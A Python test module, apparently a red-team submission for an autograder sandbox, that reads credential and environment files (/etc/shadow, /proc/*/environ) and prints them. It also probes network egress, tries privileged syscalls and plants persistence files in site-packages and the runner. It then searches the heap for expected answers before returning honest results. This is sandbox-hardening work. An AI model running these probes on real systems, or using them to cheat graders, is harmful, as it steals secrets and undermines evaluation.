"""Reconnaissance: everything a student could read, reach or break out of, tried from inside the sandbox.

At import it probes files, /proc, the environment, the network, privileged system calls and trusted imports,
and leaves files behind for a later submission to find (persist_check.py); at the first call it walks the
heap for expected values. Whatever it can read it prints into its own log (the arena checks that log for
secrets, hidden test lines and the seed), and it reports a summary. Then it behaves: it computes correct
results and earns its 10 points, so anything it found would have been free on top.
"""

import contextlib
import ctypes
import errno
import gc
import glob
import importlib
import os
import platform
import re
import socket
import sys
import time

import torch
from _prelude import CONTEXT, honest_rms_norm, honest_softmax, report

MARKERS = (b"suite = Suite()", b"from graders.harness", b"def derive_seed", b"reference_impl", b"AUTOGRADER_")
TOKEN = CONTEXT["persist_token"]


def read_head(path, size=4096):
    try:
        with open(path, "rb") as handle:
            return handle.read(size)
    except OSError:
        return None


def error_name(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno)) if isinstance(exc, OSError) else type(exc).__name__


# -- files ---------------------------------------------------------------------------------------------------
def editable_roots():
    """Source trees an editable install of the autograder maps its packages to (its finder names them)."""
    roots = set()
    for entry in sys.path:
        for finder in glob.glob(os.path.join(entry, "__editable__*finder*.py")):
            text = read_head(finder, 1 << 20) or b""
            roots.update(m.decode() for m in re.findall(rb"'(/[^']+)'", text))
        for url in glob.glob(os.path.join(entry, "*.dist-info", "direct_url.json")):
            text = read_head(url) or b""
            roots.update(m.decode() for m in re.findall(rb"file://(/[^\"]+)", text))
    return sorted(roots)


def mount_sources():
    """Mount points and the host paths behind them, from /proc/self/mountinfo."""
    found = []
    for line in (read_head("/proc/self/mountinfo", 1 << 20) or b"").decode().splitlines():
        parts = line.split()
        if len(parts) > 4:
            found.append((parts[4], parts[3]))
    return found


def probe_files():
    repo = CONTEXT["repo"]
    candidates = [
        f"{repo}/graders/warmup/tests.py",
        f"{repo}/graders/harness.py",
        f"{repo}/reference_impl/functional.py",
        "/work/main/graders/warmup/tests.py",
        "/work/main/reference_impl/functional.py",
        f"{CONTEXT['data_dir']}/autograder.db",
        f"{CONTEXT['victim_dir']}/tests.py",
        f"{CONTEXT['victim_dir']}/warmup.py",
        CONTEXT["canary_file"],
        f"/proc/1/root{repo}/graders/warmup/tests.py",
        "/proc/1/cwd/../main/graders/warmup/tests.py",
        "/etc/passwd",
        "/etc/shadow",
        "/root/.bash_history",
        "/proc/self/environ",
    ]
    roots = editable_roots()
    for root in roots:
        candidates += [f"{root}/warmup/tests.py", f"{root}/functional.py", f"{root}/graders/warmup/tests.py"]
    for mount_point, host_root in mount_sources():
        candidates += [f"{host_root}/../tests.py", f"{mount_point}/tests.py"]
    listings = {}
    for directory in (
        CONTEXT["bundle_cache"],
        CONTEXT["scratch_dir"],
        CONTEXT["data_dir"],
        repo,
        "/proc/1/cwd",
        "/proc/1/root",
        "/runner",
        "/",
    ):
        try:
            listings[directory] = sorted(os.listdir(directory))[:40]
        except OSError as exc:
            listings[directory] = error_name(exc)
    readable, sensitive = [], []
    for path in candidates:
        data = read_head(path)
        if data is None:
            continue
        readable.append(path)
        # Print what was read: if it were secret, the student now has it (and the arena sees it in the log).
        print(f"read {path}: {data[:300]!r}", file=sys.stderr)
        if path != "/proc/self/environ" and any(marker in data for marker in MARKERS):
            sensitive.append(path)
    return {
        "editable_roots": roots,
        "mounts": mount_sources(),
        "listings": listings,
        "readable": readable,
        "sensitive": sensitive,
    }


def sweep_filesystem(budget_s=4.0):
    """Walk the whole visible file system for anything that looks like the grader's side."""
    deadline = time.monotonic() + budget_s
    hits, seen = [], 0
    for directory, dirnames, filenames in os.walk("/"):
        if directory in ("/proc", "/sys", "/dev"):
            dirnames[:] = []
            continue
        if time.monotonic() > deadline:
            return {"complete": False, "entries": seen, "hits": hits}
        seen += len(dirnames) + len(filenames)
        if {"harness.py", "protocol.py"} <= set(filenames) or {"functional.py", "kernels"} <= {
            *filenames,
            *dirnames,
        }:
            hits.append(directory)  # the grading framework or the reference implementation
        for name in filenames:
            path = os.path.join(directory, name)
            if name in ("assignment.toml", "autograder.db") or name.startswith("ag-attack"):
                hits.append(path)
            elif name == "tests.py":
                data = read_head(path, 1 << 16) or b""
                if any(marker in data for marker in MARKERS[:3]):
                    hits.append(path)
    return {"complete": True, "entries": seen, "hits": hits}


# -- processes and environment -------------------------------------------------------------------------------
def probe_processes():
    found = {}
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        cmdline = read_head(f"/proc/{pid}/cmdline") or b""
        environ = read_head(f"/proc/{pid}/environ", 1 << 16)
        if environ:
            print(f"environ of {pid}: {environ!r}", file=sys.stderr)
        found[pid] = {
            "cmdline": cmdline.replace(b"\0", b" ").decode(errors="replace")[:200],
            "environ_readable": environ is not None,
            "env_keys": sorted(
                item.split(b"=", 1)[0].decode(errors="replace")
                for item in (environ or b"").split(b"\0")
                if item
            ),
        }
    worker = CONTEXT["worker_pid"]
    return {"pids": found, "worker_pid_visible": os.path.exists(f"/proc/{worker}")}


def probe_environment():
    print(f"environment: {dict(os.environ)!r}", file=sys.stderr)
    return sorted(os.environ)


# -- network -------------------------------------------------------------------------------------------------
def connect(family, address, kind=socket.SOCK_STREAM, timeout=1.0):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(timeout)
            sock.connect(address)
            if kind == socket.SOCK_DGRAM:
                sock.send(b"\0" * 12)
        return "connected"
    except OSError as exc:
        return error_name(exc)


def probe_network():
    ports = (CONTEXT["tcp_loopback_port"], CONTEXT["tcp_any_port"], 6379, 5432, 8000, 22)
    results = {f"127.0.0.1:{port}": connect(socket.AF_INET, ("127.0.0.1", port)) for port in ports}
    results["[::1]:6379"] = connect(socket.AF_INET6, ("::1", 6379))
    if CONTEXT["host_ip"]:
        for port in (CONTEXT["tcp_any_port"], 6379, 5432, 22):
            results[f"{CONTEXT['host_ip']}:{port}"] = connect(socket.AF_INET, (CONTEXT["host_ip"], port))
    results["169.254.169.254:80"] = connect(socket.AF_INET, ("169.254.169.254", 80))
    results["1.1.1.1:443"] = connect(socket.AF_INET, ("1.1.1.1", 443))
    results["udp 8.8.8.8:53"] = connect(socket.AF_INET, ("8.8.8.8", 53), socket.SOCK_DGRAM)
    results["unix abstract"] = connect(socket.AF_UNIX, "\0" + CONTEXT["unix_abstract"])
    results["unix path"] = connect(socket.AF_UNIX, CONTEXT["unix_path"])
    try:
        results["dns example.com"] = str(socket.getaddrinfo("example.com", 443)[0][4])
    except OSError as exc:
        results["dns example.com"] = error_name(exc)
    families = {
        "vsock": (getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, 0),
        "packet": (getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW, 0),
        "netlink_route": (socket.AF_NETLINK, socket.SOCK_RAW, 0),
        "netlink_audit": (socket.AF_NETLINK, socket.SOCK_RAW, 9),
        "netlink_generic": (socket.AF_NETLINK, socket.SOCK_RAW, 16),
        "netlink_uevent": (socket.AF_NETLINK, socket.SOCK_DGRAM, 15),
        "alg": (38, socket.SOCK_SEQPACKET, 0),
        "xdp": (44, socket.SOCK_RAW, 0),
        "inet_raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    }
    opened = {}
    for name, (family, kind, protocol) in families.items():
        try:
            socket.socket(family, kind, protocol).close()
            opened[name] = "opened"
        except OSError as exc:
            opened[name] = error_name(exc)
    try:
        interfaces = [name for _, name in socket.if_nameindex()]
    except OSError as exc:
        interfaces = error_name(exc)
    return {"connect": results, "socket": opened, "interfaces": interfaces}


# -- privileges ----------------------------------------------------------------------------------------------
SYSCALLS_X86_64 = {
    "ptrace_traceme": (101, (0, 0, 0, 0)),
    "ptrace_attach_1": (101, (16, 1, 0, 0)),
    "unshare_user": (272, (0x10000000,)),
    "unshare_mount": (272, (0x00020000,)),
    "setns": (308, (0, 0)),
    "bpf": (321, (0, 0, 0)),
    "perf_event_open": (298, (0, 0, -1, -1, 0)),
    "userfaultfd": (323, (0,)),
    "io_uring_setup": (425, (1, 0)),
    "keyctl": (250, (0, 0, 0, 0, 0)),
    "add_key": (248, (0, 0, 0, 0, 0)),
    "process_vm_readv": (310, (1, 0, 0, 0, 0, 0)),
    "kexec_load": (246, (0, 0, 0, 0)),
    "init_module": (175, (0, 0, 0)),
    "open_by_handle_at": (304, (0, 0, 0)),
    "syslog": (103, (3, 0, 0)),
    "pivot_root": (155, (0, 0)),
    "reboot": (169, (0, 0, 0, 0)),
    "setuid_0": (105, (0,)),
    "chroot": (161, (0,)),
}


def probe_privileges():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    results = {}
    if platform.machine() == "x86_64":
        for name, (number, args) in SYSCALLS_X86_64.items():
            ctypes.set_errno(0)
            value = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(arg) for arg in args))
            results[name] = "ok" if value >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    os.makedirs("/tmp/mnt", exist_ok=True)
    ctypes.set_errno(0)
    value = libc.mount(b"none", b"/tmp/mnt", b"tmpfs", 0, None)
    results["mount_tmpfs"] = "ok" if value == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    for name, call in (
        ("setuid", lambda: os.setuid(0)),
        ("setgid", lambda: os.setgid(0)),
        ("chroot_py", lambda: os.chroot("/tmp")),
        ("proc_1_mem", lambda: open("/proc/1/mem", "r+b").close()),
        ("sysrq", lambda: open("/proc/sysrq-trigger", "w").close()),
        ("core_pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").close()),
        ("dev_kmsg", lambda: open("/dev/kmsg", "rb").close()),
        ("dev_mem", lambda: open("/dev/mem", "rb").close()),
        ("dev_vsock", lambda: open("/dev/vsock", "rb").close()),
        ("nice_minus", lambda: os.nice(-5)),
    ):
        try:
            call()
            results[name] = "ok"
        except OSError as exc:
            results[name] = error_name(exc)
    status = (read_head("/proc/self/status") or b"").decode()
    caps = dict(re.findall(r"^(Cap\w+|NoNewPrivs|Seccomp|Uid|Gid):\s+(.*)$", status, re.M))
    return {"syscalls": results, "status": caps}


# -- imports of the grader's side ----------------------------------------------------------------------------
def probe_imports():
    results = {}
    for name in (
        "graders",
        "graders.harness",
        "reference_impl",
        "reference_impl.functional",
        "server",
        "worker",
    ):
        try:
            module = importlib.import_module(name)
            results[name] = f"imported from {getattr(module, '__file__', None)}"
        except Exception as exc:
            results[name] = type(exc).__name__
    return results


# -- writes outside the workdir, and state for the next submission -------------------------------------------
def probe_writes():
    runtime = os.path.dirname(os.path.dirname(sys.executable))
    site = next((p for p in sys.path if p.endswith("site-packages")), runtime)
    targets = {
        "persist_tmp": f"/tmp/persist-{TOKEN}",
        "persist_shm": f"/dev/shm/persist-{TOKEN}",
        "persist_home": os.path.join(os.path.expanduser("~"), f"persist-home-{TOKEN}"),
        "persist_work": f"/work/persist-{TOKEN}",
        "persist_work_parent": f"/work/../persist-{TOKEN}",
        "persist_var_tmp": f"/var/tmp/persist-{TOKEN}",
        "root": f"/persist-{TOKEN}",
        "usr": f"/usr/persist-{TOKEN}",
        "usr_lib": f"/usr/lib/persist-{TOKEN}",
        "etc": f"/etc/persist-{TOKEN}",
        "runner": "/runner/runner.py",
        "runner_new": f"/runner/persist-{TOKEN}",
        "runtime": f"{runtime}/persist-{TOKEN}",
        "sitecustomize": f"{site}/sitecustomize.py",
        "usercustomize_pth": f"{site}/zz-persist-{TOKEN}.pth",
        "canary_file": CONTEXT["canary_file"],
        "canary_dir": f"{CONTEXT['canary_dir']}/persist-{TOKEN}",
        "victim_dir": f"{CONTEXT['victim_dir']}/persist-{TOKEN}",
        "scratch_dir": f"{CONTEXT['scratch_dir']}/persist-{TOKEN}",
        "repo": f"{CONTEXT['repo']}/graders/persist-{TOKEN}",
        "dev": f"/dev/persist-{TOKEN}",
        "proc": "/proc/sys/kernel/hostname",
    }
    payload = f"import os  # persisted by {TOKEN}\n"
    results = {}
    for name, path in targets.items():
        try:
            with open(path, "a") as handle:
                handle.write(payload)
            results[name] = "written"
        except OSError as exc:
            results[name] = error_name(exc)
    # System V shared memory survives its creator: it would carry state to the next run in the same ipc namespace.
    libc = ctypes.CDLL(None, use_errno=True)
    shmid = libc.shmget(ctypes.c_int(int(TOKEN[:7], 16)), ctypes.c_size_t(4096), ctypes.c_int(0o1666))
    results["sysv_shm"] = "created" if shmid >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    return results


# -- the heap, at the first call -----------------------------------------------------------------------------
def walk_heap(x, dim):
    """Look through every object in the process (and the runner's frames) for expected values or test data."""
    expected = honest_softmax(x, dim)
    tensors = [obj for obj in gc.get_objects() if isinstance(obj, torch.Tensor)]
    matches = 0
    for tensor in tensors:
        if tensor is expected or tensor.shape != x.shape or tensor.dtype != x.dtype:
            continue
        with contextlib.suppress(Exception):
            matches += bool(torch.allclose(tensor, expected))
    names = ("softmax_basic", "softmax_large_logits", "rms_norm_eps", "inputs_not_mutated", "derive_seed")
    strings = 0
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values()):
                if isinstance(value, str) and any(name in value for name in names):
                    strings += 1
    header_keys = set()
    for frame in sys._current_frames().values():
        while frame is not None:
            header = frame.f_locals.get("header")
            if isinstance(header, dict):
                header_keys.update(header)
            frame = frame.f_back
    return {
        "tensors_seen": len(tensors),
        "expected_found": matches,
        "test_strings_found": strings,
        "call_header_keys": sorted(header_keys),
    }


report(
    "recon",
    files=probe_files(),
    processes=probe_processes(),
    environment=probe_environment(),
    network=probe_network(),
    privileges=probe_privileges(),
    imports=probe_imports(),
    writes=probe_writes(),
)
report("sweep", **sweep_filesystem())

_walked = False


def softmax(x, dim=-1):
    global _walked
    if not _walked:
        _walked = True
        report("heap", **walk_heap(x, dim))
    return honest_softmax(x, dim)


def rms_norm(x, weight, eps=1e-6):
    return honest_rms_norm(x, weight, eps)
